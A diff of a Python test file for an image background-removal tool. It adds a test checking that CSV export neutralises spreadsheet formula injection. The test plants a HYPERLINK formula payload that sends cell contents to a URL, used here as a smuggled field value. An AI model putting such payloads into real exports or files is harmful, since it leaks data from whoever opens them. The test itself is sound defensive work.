@@ -9,13 +9,14 @@ import json
 import os
 import sqlite3
 from collections.abc import Callable
+from dataclasses import replace
 from functools import partial
 from pathlib import Path
 
 import pytest
 
 from rmbg_nodes import bookkeeping
-from rmbg_nodes.backends.fake import FakeHosted, FakeLocal, FakeProvider
+from rmbg_nodes.backends.fake import FAKE_LOCAL, FakeHosted, FakeLocal, FakeProvider
 from rmbg_nodes.commands import receipts as command
 from rmbg_nodes.feed import Input
 from rmbg_nodes.pipeline import Done, Treatment, remove
@@ -127,6 +128,15 @@ def test_csv(run: Run, filled: list[str]) -> None:
     (whole,) = json.loads(run("list", "--json", "--limit", "1")[1])
     nested = {"licence", "input", "image", "mask"}
     assert set(whole) - nested - {"version"} <= exported
+
+
+def test_a_csv_has_no_formula(run: Run, data: Path) -> None:
+    formula = '=HYPERLINK("http://127.0.0.1/?"&A1)'
+    pictures = [Input(0, "p", lambda: disc_frame(0, (20, 30)).pixels)]
+    list(remove(pictures, FakeLocal(replace(FAKE_LOCAL, id=formula)), Treatment()))
+    (row,) = csv.DictReader(io.StringIO(run("export", "--csv")[1]))
+    assert row["backend"] == f"'{formula}"
+    assert not [cell for cell in row.values() if cell.lstrip()[:1] in set("=+-@")]
 
 
 def test_verify(run: Run, filled: list[str], data: Path) -> None:
